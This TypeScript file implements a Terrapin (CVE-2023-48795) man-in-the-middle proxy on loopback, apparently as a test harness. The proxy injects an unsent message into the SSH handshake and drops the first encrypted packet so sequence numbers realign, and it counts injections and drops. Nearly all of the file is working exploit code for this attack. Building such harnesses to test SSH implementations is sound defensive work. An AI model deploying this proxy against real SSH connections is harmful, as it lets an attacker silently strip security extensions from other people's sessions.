/**
 * CVE-2023-48795: a man in the middle on loopback. It inserts a message into the plaintext of the first exchange, so that one side
 * counts one packet more, and withholds the first packet under the keys from it, so that the numbers agree again.
 */
import { connect, createServer, type AddressInfo, type Socket } from 'node:net';
import { once } from 'node:events';
import { bytes, concat, readUint32, str } from './bytes.js';
import { plain } from './raw-packets.js';

export type Side = 'client' | 'server';

export interface Attack {
  /** Who gets a message that nobody sent. */
  readonly injectsTo?: Side;
  /** The number of the message before which it is put. */
  readonly before?: 20 | 21;
  /** Whose first packet under the keys never arrives. */
  readonly drops?: Side;
}

export interface Proxy {
  readonly port: number;
  /** What he got done so far. */
  readonly done: { injected: number; dropped: number };
  close(): Promise<void>;
}

const INJECTED = plain(concat([2], str('never sent')));

/** What comes from one side, up to its keys as messages and then as it comes. */
class Tap {
  #waiting: Uint8Array = new Uint8Array(0);
  #phase: 'ident' | 'packets' | 'keys' = 'ident';
  #isFirst = true;
  readonly #attack: Attack;
  readonly #from: Side;
  readonly #done: Proxy['done'];

  constructor(from: Side, attack: Attack, done: Proxy['done']) {
    this.#from = from;
    this.#attack = attack;
    this.#done = done;
  }

  /** What goes on to the other side. */
  pass(chunk: Uint8Array): Uint8Array {
    this.#waiting = concat(this.#waiting, chunk);
    const passed: Uint8Array[] = [];
    for (let unit = this.#next(); unit !== undefined; unit = this.#next()) passed.push(unit);
    return concat(...passed);
  }

  /** The next line, packet, or whatever is left under the keys, with what was put before it or taken away. */
  #next(): Uint8Array | undefined {
    const phase = this.#phase;
    const unit = this.#take(phase === 'ident' ? this.#waiting.indexOf(10) + 1 : this.#packetLength());
    if (unit === undefined) return undefined;
    const { injectsTo, before, drops } = this.#attack;
    if (phase === 'ident') {
      if (bytes('SSH-').every((byte, index) => unit[index] === byte)) this.#phase = 'packets';
      return unit;
    }
    if (phase === 'packets') {
      if (unit[5] === 21) this.#phase = 'keys';
      if (injectsTo === this.#from || injectsTo === undefined || unit[5] !== before) return unit;
      this.#done.injected += 1;
      return concat(INJECTED, unit);
    }
    const isDropped = this.#isFirst && drops === this.#from;
    this.#isFirst = false;
    if (!isDropped) return unit;
    this.#done.dropped += 1;
    return new Uint8Array(0);
  }

  #packetLength(): number {
    if (this.#phase === 'keys') return this.#waiting.length;
    return this.#waiting.length < 4 ? 0 : 4 + readUint32(this.#waiting, 0);
  }

  #take(length: number): Uint8Array | undefined {
    if (length === 0 || this.#waiting.length < length) return undefined;
    const unit = this.#waiting.slice(0, length);
    this.#waiting = this.#waiting.subarray(length);
    return unit;
  }
}

/** Listens where a client shall connect, and goes on to the server at `target`. */
export async function terrapinProxy(target: number, attack: Attack): Promise<Proxy> {
  const done = { injected: 0, dropped: 0 };
  const sockets = new Set<Socket>();
  const listener = createServer({ noDelay: true }, (client) => {
    const server = connect({ host: '127.0.0.1', port: target, noDelay: true });
    for (const [from, to, side] of [
      [client, server, 'client'],
      [server, client, 'server'],
    ] as const) {
      const tap = new Tap(side, attack, done);
      sockets.add(from);
      from.on('data', (chunk: Uint8Array) => to.write(tap.pass(chunk)));
      from.on('end', () => to.end());
      from.on('error', () => to.destroy());
      from.on('close', () => sockets.delete(from));
    }
  }).listen(0, '127.0.0.1');
  await once(listener, 'listening');
  return {
    port: (listener.address() as AddressInfo).port,
    done,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => void listener.close(resolve));
    },
  };
}
